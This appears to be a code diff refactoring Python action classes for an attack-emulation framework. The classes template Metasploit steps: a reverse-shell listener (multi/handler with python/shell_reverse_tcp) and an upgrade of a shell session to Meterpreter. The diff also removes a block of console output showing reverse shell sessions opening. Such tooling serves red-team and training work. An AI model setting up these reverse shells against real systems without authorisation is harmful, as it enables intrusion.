@@ -1,51 +1,49 @@
+import uuid
+
 from cyst_models.cryton.actions.action import Action, ExternalResources
+from cyst_models.cryton.actions.template import StepTemplate, Slot, SESSION, PORT
 
 
 class SessionListener(Action):
-    def __init__(self, message_id: int, caller_id: str, external_resources: ExternalResources):
-        template = {
-            f"session-listener-{message_id}": {
-                "module": "metasploit",
-                "arguments": {
-                    "module_name": "multi/handler",
-                    "datastore": {"payload": "python/shell_reverse_tcp", "LHOST": "0.0.0.0", "LPORT": 4444},
-                },
-            }
-        }
+    priority = "exploitation"
+
+    step = StepTemplate(
+        "session-listener-{message_id}-{uuid}",
+        {
+            "module": "metasploit",
+            "arguments": {
+                "module_name": "multi/handler",
+                "datastore": {"payload": "python/shell_reverse_tcp", "LHOST": "0.0.0.0", "LPORT": PORT},
+            },
+        },
+    )
+
+    def __init__(self, message_id: int, caller_id: str, external_resources: ExternalResources, port: int = 4444):
+        template = self.step.bind(message_id, port=port, uuid=uuid.uuid4())
         super().__init__(message_id, template, caller_id, external_resources)
 
 
-# [*] Using configured payload generic/shell_reverse_tcp
-# PAYLOAD => python/shell_reverse_tcp
-# LHOST => 0.0.0.0
-# LPORT => 4444
-# [*] Started reverse TCP handler on 0.0.0.0:4444
-# [*] Command shell session 1 opened (10.0.0.2:4444 -> 10.0.0.1:42168) at 2024-06-17 11:55:29 +0000
-# [*] Command shell session 2 opened (10.0.0.2:4444 -> 10.0.0.1:60538) at 2024-06-17 11:55:29 +0000
-# [*] Session 1 created in the background.
-# NYJkKNkAFSKM4sq9qpyz
-# [*] Command shell session 3 opened (10.0.0.2:4444 -> 10.0.0.1:37604) at 2024-06-17 11:55:29 +0000
-
-# {'session_id': 1}
-
-
 class UpgradeSession(Action):
+    priority = "exploitation"
+
+    step = StepTemplate(
+        "upgrade-session-{message_id}",
+        {
+            "module": "metasploit",
+            "arguments": {
+                "module_name": "multi/manage/shell_to_meterpreter",
+                "datastore": {
+                    "LHOST": Slot("lhost", str),
+                    "SESSION": SESSION,
+                },
+            },
+        },
+    )
+
     def __init__(
         self, message_id: int, caller_id: str, external_resources: ExternalResources, session: str | int, lhost: str
     ):
-        used_session = session if isinstance(session, int) else f'{{{{ {session} }}}}'
-        template = {
-            f"upgrade-session-{message_id}": {
-                "module": "metasploit",
-                "arguments": {
-                    "module_name": "multi/manage/shell_to_meterpreter",
-                    "datastore": {
-                        "LHOST": lhost,
-                        "SESSION": used_session,
-                    },
-                },
-            }
-        }
+        template = self.step.bind(message_id, session=session, lhost=lhost)
         super().__init__(message_id, template, caller_id, external_resources)
 
     @property